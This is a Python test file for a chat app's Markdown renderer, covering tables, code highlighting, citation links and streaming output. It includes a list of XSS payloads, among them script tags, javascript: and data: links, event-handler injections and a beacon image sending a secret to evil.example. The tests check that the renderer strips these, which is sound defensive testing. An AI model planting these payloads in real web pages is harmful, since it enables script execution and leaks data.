from html.parser import HTMLParser

import pytest

from chat.rendering import TAGS, StreamingRenderer, closed_until, render

LINKS = {1: ("/sources/a/1/", "Handbuch.pdf, Seite 3"), 2: ("/sources/a/2/", "Leave.md")}

HOSTILE = [
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![beacon](https://evil.example/x.png?secret)",
    '![" onerror="alert(1)](x)',
    "<svg onload=alert(1)><math><mtext></mtext></math>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '[a](https://example.org "\\" onmouseover=\\"alert(1)")',
    "<a href='https://example.org' style='position:fixed'>x</a>",
]


def test_ordinary_markdown_becomes_html() -> None:
    html = render("## Urlaub\n\n- **30** Tage\n- `Antrag`\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for piece in ("<h2>Urlaub</h2>", "<strong>30</strong>", "<code>Antrag</code>", "<td>2</td>"):
        assert piece in html


def test_columns_are_aligned_without_styles() -> None:
    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<td class="align-right">1</td>' in html and '<th class="align-center">b</th>' in html


def test_code_is_highlighted_by_class_names() -> None:
    assert '<span class="hl-k">return</span>' in render("```python\nreturn 1\n```")


class Elements(HTMLParser):
    """The elements and attributes a browser would see in some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    found = Elements(html)
    assert found.tags <= TAGS
    for name, value in found.attributes:
        assert not name.startswith("on") and name not in ("src", "srcset")
        assert name != "href" or value.startswith(("https://", "/sources/"))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_active_and_nothing_remote_survives(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_stream_cut_at_every_character_stays_harmless(text: str) -> None:
    renderer = StreamingRenderer(None)
    for character in text:
        for html in renderer.feed(character):
            assert_harmless(html)


def test_links_leave_without_a_trace() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[a](https://example.org)")


def test_a_marker_becomes_a_link_named_for_its_source() -> None:
    html = render("Dreißig Tage [1].", LINKS)
    assert 'href="/sources/a/1/"' in html and 'aria-label="Source 1"' in html and "Seite 3" in html


def test_several_numbers_in_one_marker_are_several_links() -> None:
    assert render("So ist es [1, 2].", LINKS).count('class="citation"') == 2


def test_a_marker_without_source_vanishes() -> None:
    assert render("Erfunden [7].", LINKS) == "<p>Erfunden.</p>\n"


def test_brackets_are_text_where_nothing_was_searched() -> None:
    assert "a[1]" in render("Das Element a[1] ist das zweite.")


def test_brackets_in_code_stay_code() -> None:
    assert "<code>a[1]</code>" in render("`a[1]`", LINKS)


def test_a_document_name_cannot_break_out_of_the_link() -> None:
    html = render("x [1]", {1: ("/s/", '"><script>alert(1)</script>')})
    assert "<script" not in html


ANSWER = """# Titel

Ein Absatz mit **fettem** Text [1].

- eins
- zwei

```python
x = 1

y = 2
```

| a | b |
|---|---|
| 1 | 2 |

Schluss.
"""


@pytest.mark.parametrize("size", [1, 7, 50, 1000])
def test_the_stream_ends_with_the_html_of_one_render(size: int) -> None:
    renderer, closed, tail = StreamingRenderer(LINKS), "", ""
    for start in range(0, len(ANSWER), size):
        new, tail = renderer.feed(ANSWER[start : start + size])
        closed += new
    assert closed + tail == render(ANSWER, LINKS)


def test_separators_that_are_no_line_ends_cut_nothing() -> None:
    assert closed_until("a\u2028b\n\nc d\n\ne") == len("a\u2028b\n\nc d\n\n")


def test_a_closed_block_is_rendered_once() -> None:
    rendered: list[str] = []
    renderer = StreamingRenderer(None, render=lambda text, links, **_: rendered.append(text) or "")
    for word in ("one\n\n", "two\n\n", "three\n\n", "four"):
        renderer.feed(word)
    assert sum("one" in text for text in rendered) == 2  # as tail, then closed


def test_an_unclosed_fence_keeps_all_of_it_open() -> None:
    assert closed_until("text\n\n```python\nx = 1\n\ny = 2\n") == len("text\n\n")


def test_deep_nesting_is_answered_in_time() -> None:
    assert len(render(">" * 5000 + " x")) < 100_000
    assert len(render("[" * 5000)) < 100_000
